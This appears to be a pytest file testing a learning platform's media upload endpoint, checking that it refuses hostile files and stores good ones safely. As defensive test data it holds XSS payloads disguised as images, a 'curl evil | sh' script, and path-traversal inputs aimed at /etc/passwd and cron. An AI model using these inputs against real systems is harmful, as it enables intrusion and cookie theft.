"""`POST /media`: hostile uploads first, then what a good one becomes."""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest

from edusphere.core.runtime import Runtime
from edusphere.media.models import MediaAsset
from tests.courses import factories as courses
from tests.helpers import make_user
from tests.media.helpers import ELF, MP4, PDF, bearer, form, jpeg, png, upload, uploaded


def _incoming(runtime: Runtime) -> list[Path]:
    incoming = runtime.settings.media_dir / "incoming"
    return sorted(incoming.iterdir()) if incoming.exists() else []


def _stored(runtime: Runtime) -> list[Path]:
    root = runtime.settings.media_dir
    return sorted(
        p for sub in ("public", "protected") if (root / sub).exists() for p in (root / sub).rglob("*") if p.is_file()
    )


async def _refused(response: httpx.Response, status: int, code: str, runtime: Runtime) -> None:
    assert response.status_code == status, response.text
    assert response.json()["error"]["code"] == code
    assert await MediaAsset.all().count() == 0
    assert _incoming(runtime) == []


async def test_an_upload_without_a_token_is_refused_before_anything_is_written(
    runtime: Runtime, http: httpx.AsyncClient
) -> None:
    await _refused(await upload(http, None, "FILE", "a.pdf", PDF), 401, "UNAUTHENTICATED", runtime)
    body, headers = form("FILE", "a.pdf", PDF)
    response = await http.post("/media", content=body, headers={**headers, "authorization": "Bearer nonsense"})
    await _refused(response, 401, "UNAUTHENTICATED", runtime)


async def test_a_text_file_named_png_is_no_image(runtime: Runtime, http: httpx.AsyncClient) -> None:
    author = await courses.creator(runtime)
    await _refused(
        await upload(http, author, "IMAGE", "photo.png", b"I am only text\n" * 20), 400, "BAD_USER_INPUT", runtime
    )


async def test_a_truncated_image_is_refused(runtime: Runtime, http: httpx.AsyncClient) -> None:
    author = await courses.creator(runtime)
    whole = png(300, 200)
    await _refused(
        await upload(http, author, "IMAGE", "cut.png", whole[: len(whole) // 2]), 400, "BAD_USER_INPUT", runtime
    )


@pytest.mark.parametrize(
    "data",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
        b"<!doctype html><html><body><script>alert(document.cookie)</script>",
        # A polyglot: a GIF header whose bytes go on as JavaScript.
        b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.cookie);//",
        b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
    ],
)
async def test_active_content_disguised_as_an_image_is_refused(
    runtime: Runtime, http: httpx.AsyncClient, data: bytes
) -> None:
    author = await courses.creator(runtime)
    await _refused(await upload(http, author, "IMAGE", "cat.png", data), 400, "BAD_USER_INPUT", runtime)
    assert _stored(runtime) == []


async def test_an_executable_named_mp4_is_refused_as_video_and_as_file(
    runtime: Runtime, http: httpx.AsyncClient
) -> None:
    author = await courses.creator(runtime)
    await _refused(await upload(http, author, "VIDEO", "lesson.mp4", ELF), 400, "BAD_USER_INPUT", runtime)
    await _refused(await upload(http, author, "FILE", "lesson.mp4", ELF), 400, "BAD_USER_INPUT", runtime)
    await _refused(
        await upload(http, author, "FILE", "run.txt", b"#!/bin/sh\ncurl evil | sh\n"), 400, "BAD_USER_INPUT", runtime
    )
    await _refused(await upload(http, author, "VIDEO", "fake.mp4", PDF), 400, "BAD_USER_INPUT", runtime)


async def test_an_upload_past_its_kinds_limit_is_refused_while_it_streams(
    runtime: Runtime, http: httpx.AsyncClient
) -> None:
    """The temp file is gone while the client is still sending (not once it has sent all)."""
    author = await courses.creator(runtime)
    limit = runtime.settings.media.max_image_bytes
    body, headers = form("IMAGE", "huge.png", png() + b"\x00" * (limit + 600 * 1024))
    observed: list[list[Path]] = []
    receiving: list[bool] = []

    async def chunks() -> AsyncIterator[bytes]:
        step, sent = 64 * 1024, 0
        for start in range(0, len(body), step):
            yield body[start : start + step]
            sent += step
            if not receiving and sent > 2 * 1024 * 1024:
                for _ in range(100):
                    await asyncio.sleep(0.02)
                    if _incoming(runtime):
                        break
                receiving.append(bool(_incoming(runtime)))  # the temp file being written
            if not observed and sent > limit + 300 * 1024:
                for _ in range(100):  # the server runs on this loop: let it catch up
                    await asyncio.sleep(0.02)
                    if _incoming(runtime) == []:
                        break
                observed.append(_incoming(runtime))

    response = await http.post("/media", content=chunks(), headers={**headers, **bearer(author)})
    assert receiving == [True]
    assert observed == [[]]
    await _refused(response, 413, "PAYLOAD_TOO_LARGE", runtime)


async def test_malformed_forms_are_refused(runtime: Runtime, http: httpx.AsyncClient) -> None:
    author = await courses.creator(runtime)
    auth = bearer(author)
    body, headers = form("FILE", "a.pdf", PDF, order=("file", "kind"))
    await _refused(await http.post("/media", content=body, headers={**headers, **auth}), 400, "BAD_USER_INPUT", runtime)
    body, headers = form("SCRIPT", "a.pdf", PDF)
    await _refused(await http.post("/media", content=body, headers={**headers, **auth}), 400, "BAD_USER_INPUT", runtime)
    body, headers = form(None, "a.pdf", PDF)
    await _refused(await http.post("/media", content=body, headers={**headers, **auth}), 400, "BAD_USER_INPUT", runtime)
    body, headers = form("FILE", "a.pdf", PDF)
    cut = await http.post("/media", content=body[: len(body) // 2], headers={**headers, **auth})
    await _refused(cut, 400, "BAD_USER_INPUT", runtime)
    json_body = await http.post("/media", json={"kind": "FILE"}, headers=auth)
    await _refused(json_body, 400, "BAD_USER_INPUT", runtime)
    await _refused(await upload(http, author, "FILE", "empty.txt", b""), 400, "BAD_USER_INPUT", runtime)
    extra, headers = form("FILE", "a.pdf", PDF)
    extra = extra.replace(b'name="kind"', b'name="owner"')
    await _refused(
        await http.post("/media", content=extra, headers={**headers, **auth}), 400, "BAD_USER_INPUT", runtime
    )


async def test_a_hostile_file_name_is_stored_safe(runtime: Runtime, http: httpx.AsyncClient) -> None:
    author = await courses.creator(runtime)
    answer = await uploaded(http, author, "FILE", "../../../etc/cron.d/x\x07\x1b[31m.pdf", PDF)
    assert answer["name"] == "x [31m.pdf"
    assert answer["mimeType"] == "application/pdf"
    assert answer["url"] is None
    sha = hashlib.sha256(PDF).hexdigest()
    assert _stored(runtime) == [runtime.settings.media_dir / "protected" / sha[:2] / sha]
    assert _incoming(runtime) == []


async def test_a_video_is_stored_protected_once_for_two_uploads(runtime: Runtime, http: httpx.AsyncClient) -> None:
    author, other = await courses.creator(runtime), await courses.creator(runtime)
    first = await uploaded(http, author, "VIDEO", "intro.mp4", MP4)
    second = await uploaded(http, other, "VIDEO", "copy.mp4", MP4)
    assert first["id"] != second["id"]
    assert (first["kind"], first["mimeType"], first["sizeBytes"]) == ("VIDEO", "video/mp4", len(MP4))
    sha = hashlib.sha256(MP4).hexdigest()
    rows = await MediaAsset.filter(sha256=sha).order_by("created_at")
    assert [str(r.id) for r in rows] == [first["id"], second["id"]]
    assert _stored(runtime) == [runtime.settings.media_dir / "protected" / sha[:2] / sha]
    assert (runtime.settings.media_dir / "protected" / sha[:2] / sha).read_bytes() == MP4


async def test_an_image_keeps_only_its_re_encodings_and_is_served_public(
    runtime: Runtime, http: httpx.AsyncClient
) -> None:
    author = await courses.creator(runtime)
    data = jpeg(120, 80)
    answer = await uploaded(http, author, "IMAGE", "cover.jpg", data)
    assert (answer["kind"], answer["mimeType"], answer["width"], answer["height"]) == ("IMAGE", "image/jpeg", 120, 80)
    sha = hashlib.sha256(data).hexdigest()
    assert answer["url"].startswith(f"/media/public/{sha[:2]}/{sha}-")
    stored = _stored(runtime)
    assert stored
    assert all("public" in p.parts for p in stored)
    assert all(p.read_bytes() != data for p in stored)  # the uploaded bytes are never kept
    assert not any(b"author's home" in p.read_bytes() or b"secret" in p.read_bytes() for p in stored)
    served = await http.get(answer["url"])
    assert served.status_code == 200
    assert served.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert served.headers["content-type"] in ("image/jpeg", "image/png", "image/webp", "image/avif")
    again = await uploaded(http, await make_user(runtime), "IMAGE", "same.jpg", data)
    assert again["url"] == answer["url"]
    assert _stored(runtime) == stored
    assert _incoming(runtime) == []


@pytest.mark.parametrize(
    "path",
    [
        "../protected/ab/" + "ab" * 32,
        "..%2F..%2Fetc%2Fpasswd",
        "%2e%2e/%2e%2e/etc/passwd",
        "ab/" + "ab" * 32 + "-640.webp%00.png",
        "ab/" + "ab" * 32 + "-640.webp",  # the right shape, but nothing there
        "ab/" + "cd" * 32 + "-640.webp",
        "ab",
    ],
)
async def test_public_paths_outside_the_layout_are_not_found(http: httpx.AsyncClient, path: str) -> None:
    response = await http.get(f"/media/public/{path}")
    assert response.status_code == 404, response.text
